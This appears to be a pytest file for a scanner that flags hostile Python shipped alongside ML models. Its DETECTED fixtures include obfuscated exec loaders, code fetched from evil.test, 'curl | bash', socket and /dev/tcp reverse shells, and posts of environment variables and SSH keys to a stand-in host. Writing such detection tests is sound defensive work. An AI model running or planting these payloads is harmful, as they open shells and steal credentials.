"""Python beside a model: what runs, hides, reaches out or stays, and everyday code that does none of it."""

# ruff: noqa: E501, PT007  files stand here as they are
from __future__ import annotations

import base64
import inspect
import textwrap

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from bartizan.supply.scan.blob import Held
from bartizan.supply.scan.look import Look
from bartizan.supply.scan.texts.code import MOST, is_code
from bartizan.supply.scan.texts.plain import CODE
from tests.supply.scan.texts.looking import formats, ids, looked, worst

PACKED = base64.b64encode(b"import os\nos.system('echo x')").decode()
MODELLING = '''"""PyTorch model."""
import importlib
import math
from typing import Optional

import torch
import torch.nn as nn
from torch.nn import functional as F
from transformers import PretrainedConfig, PreTrainedModel
from transformers.utils import logging

from .configuration_x import XConfig

logger = logging.get_logger(__name__)
if importlib.util.find_spec("flash_attn"):
    flash = importlib.import_module("flash_attn")
PATTERN = "{{ messages }} {% for x in y %}{{ x }}{% endfor %}"


class Block(nn.Module):
    def __init__(self, config: XConfig) -> None:
        super().__init__()
        self.proj = nn.Linear(config.hidden_size, config.hidden_size)
        self.forward = torch.compile(self.forward)

    def forward(self, x: torch.Tensor, mask: Optional[torch.Tensor] = None) -> torch.Tensor:
        return F.softmax(self.proj(x) / math.sqrt(x.shape[-1]), dim=-1)


class XModel(PreTrainedModel):
    config_class = XConfig

    def load(self, path: str, device: str) -> None:
        self.load_state_dict(torch.load(path, map_location=device, weights_only=True))
        self.eval()

    def image(self, url: str) -> bytes:
        import requests
        return requests.get(url, headers={"Authorization": f"Bearer {self.token}"}, timeout=10).content


XModel.register_for_auto_class("AutoModel")
'''
SETUP = """from setuptools import find_packages, setup
from torch.utils.cpp_extension import BuildExtension, CUDAExtension

with open("README.md", encoding="utf-8") as f:
    long_description = f.read()
setup(name="x", version="1.0", packages=find_packages(), cmdclass={"build_ext": BuildExtension},
      ext_modules=[CUDAExtension("x", ["x.cu"])], install_requires=["torch>=2"])
"""
DETECTED = (
    f"import base64\nexec(base64.b64decode('{PACKED}'))",
    f"import base64 as b\npayload = b.b64decode('{PACKED}')\ncode = payload.decode()\nexec(code)",
    "import zlib, marshal\nexec(marshal.loads(zlib.decompress(b'x')))",
    "from codecs import decode as d\neval(d('vzcbeg bf', 'rot13'))",
    "exec(bytes.fromhex('7072696e7428312900').decode())",
    "exec(''.join(chr(c) for c in [112, 114]))",
    "import requests\nexec(requests.get('https://evil.test/x').text)",
    "import urllib.request as u\nwith u.urlopen('https://evil.test') as r:\n    source = r.read()\nexec(compile(source, 'x', 'exec'))",
    "__import__('os').system('echo x')",
    "import os\ngetattr(os, 'sys' + 'tem')('echo x')",
    "o = __import__('o' + 's')\nrun = getattr(o, 'metsys'[::-1])\nrun('echo x')",
    "__builtins__.__dict__['ev' + 'al']('1')",
    "import sys\nsys.modules['os'].system('echo x')",
    "import os\nos.__dict__['system']('echo x')",
    "import importlib\nimportlib.import_module('os').system('echo x')",
    "eval('__imp' + \"ort__('os').system('echo x')\")",
    "(lambda f: f('os'))(__import__).system('echo x')",
    "@exec\n@input\nclass X: pass",
    "import socket, os, pty\ns = socket.socket()\ns.connect(('10.0.0.1', 1))\nos.dup2(s.fileno(), 0)\npty.spawn('sh')",
    "import socket, subprocess\ns = socket.socket()\ns.connect(('10.0.0.1', 1))\nwhile 1:\n    c = s.recv(9)\n"
    "    s.send(subprocess.getoutput(c))",
    "import subprocess\nsubprocess.run('curl https://evil.test/x | bash', shell=True)",
    "import os\nos.system('bash -i >& /dev/tcp/10.0.0.1/1 0>&1')",
    "import os, json, requests\nrequests.post('https://evil.test', data=json.dumps(dict(os.environ)))",
    "import requests, pathlib\nkey = open('/root/.ssh/id_rsa').read()\nrequests.post('https://evil.test', data=key)",
    "with open('/root/.bashrc', 'a') as f:\n    f.write('x')",
    "from setuptools import setup\nfrom setuptools.command.install import install\nimport os\n"
    "class Mine(install):\n    def run(self):\n        os.system('echo x')\nsetup(cmdclass={'install': Mine})",
    "import ctypes\nctypes.windll.kernel32.VirtualAlloc(0, 9, 1, 1)",
    "[c for c in ().__class__.__base__.__subclasses__() if c][0]()",
    "exec('exec(\"__import__(\\'os\\').system(\\'echo x\\')\")')",
)
REVIEWED = (
    "import os\nos.system('echo x')",
    "import subprocess\nsubprocess.check_output(['echo', 'x'])",
    "from os import *\nsystem('echo x')",
    "import os\nlist(map(os.system, ['echo x']))",
    "import functools, os\nclass X:\n    __class_getitem__ = os.system\nX['echo x']",
    "import requests\nDATA = requests.get('https://x.test').json()",
    "import requests\ndef f():\n    requests.get('http://8.8.4.4/x')",
    "import ctypes\nlib = ctypes.CDLL('./x.so')",
    "def f(x):\n    return eval(x)",
    "import os\nprint 'python 2'\nos.system('echo x')",
    "from setuptools import setup\nfrom mine import Install\nsetup(cmdclass={'install': Install})",
)


@pytest.mark.parametrize("source", (MODELLING, SETUP, inspect.getsource(textwrap), "print('x')\n", "x: int = 3\n"))
def test_everyday_code_says_nothing(source: str) -> None:
    assert looked(source).findings == []


def test_code_of_libraries_is_never_detected() -> None:
    torch = pytest.importorskip("torch.nn.modules.transformer")
    sklearn = pytest.importorskip("sklearn.ensemble._forest")
    for module in (torch, sklearn):
        source = inspect.getsource(module)
        assert formats(source) == ("Python code",)
        assert looked(source).findings == []


@pytest.mark.parametrize("source", DETECTED)
def test_code_that_hides_reaches_or_stays_is_detected(source: str) -> None:
    assert worst(source) == "detect"
    assert worst(f'"""Docstring with {{% if x %}} in it."""\nimport torch\n{source}') == "detect"


@pytest.mark.parametrize("source", REVIEWED)
def test_code_that_starts_something_needs_a_look(source: str) -> None:
    assert formats(source) == ("Python code",)
    assert worst(source) == "review"


def test_an_encoding_in_which_code_is_not_what_it_shows_is_detected() -> None:
    assert ids("# -*- coding: utf-7 -*-\n+AGkAbQBwAG8AcgB0- os") == {"code.encoding"} | ids("+AGkAbQBwAG8AcgB0- os")
    assert worst("#!/usr/bin/env python\n# coding: unicode_escape\nimport os\n") == "detect"
    assert worst("# -*- coding: utf-8 -*-\nimport os\n") == "clean"


def test_the_argument_of_what_is_called_is_told() -> None:
    found = looked(f"import base64\nexec(base64.b64decode('{PACKED}'))").findings
    assert any("os.system('echo x')" in one.what for one in found)


def test_what_runs_only_as_a_program_of_its_own_is_not_run_on_import() -> None:
    assert worst("import requests\nif __name__ == '__main__':\n    requests.get('https://x.test')") == "clean"


def test_code_of_another_version_of_python_is_told_by_what_parses() -> None:
    newer = "import os\n\n\ndef f():\n    return 1\n\n\ntype X[T] = f'{f'{T}'}' = 3\n"
    assert "code.unparsed" in ids(newer)
    page = "# A model\n\nUse it so:\n\n```python\nimport torch\nmodel = torch.load('x')\nfrom x import y\n```\n"
    assert formats(page) == ("text",)
    assert looked(page).findings == []


def test_code_behind_much_that_is_comment_is_found_and_too_much_code_is_no_clean_file() -> None:
    assert worst("# x\n" * 200_000 + "import os\nos.system('echo x')\n") == "review"
    assert worst("import os\n" + "x = [1, 2]\n" * (MOST // 8)) == "error"
    assert worst("import os\n" + "(1),\n" * 80_000) == "error"
    assert not is_code("1,2,3\n" * 1000)
    assert worst("1,2,abc(d)\n" * (MOST // 8)) == "clean"
    assert worst("f(x)\n" * (MOST // 4) + "exec(x)\n") == "error"


@given(st.sampled_from((MODELLING, *DETECTED, *REVIEWED)), st.data())
@settings(max_examples=150, deadline=None)
def test_no_change_of_code_trips_the_scanner(source: str, data: st.DataObject) -> None:
    raw = source.encode()
    at = data.draw(st.integers(0, len(raw)))
    look = Look((CODE,))
    look.at(Held(raw[:at] + data.draw(st.binary(max_size=4)) + raw[at + data.draw(st.integers(0, 3)) :]))
    assert "scanner.failed" not in {one.rule.id for one in look.findings}


@pytest.mark.parametrize(
    "piece", ("a.b(", "-", "'a'+", "f(x)(", "[", "lambda x: ", "x=", "\n x", "chr(1)+", "f'{", "not ")
)
def test_code_of_many_equal_pieces_comes_to_an_end(piece: str) -> None:
    text = "import os\nx = " + piece * (30_000 // len(piece)) + "1"
    assert "scanner.failed" not in ids(text)
